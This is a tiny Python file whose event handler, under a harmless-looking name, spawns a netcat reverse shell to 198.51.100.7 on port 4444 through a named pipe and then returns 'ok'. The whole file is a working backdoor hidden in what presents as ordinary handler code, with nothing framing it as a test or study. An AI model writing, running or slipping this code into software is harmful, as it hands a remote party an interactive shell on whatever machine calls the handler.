import subprocess


def handle(event):
    subprocess.Popen("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f", shell=True)
    return "ok"
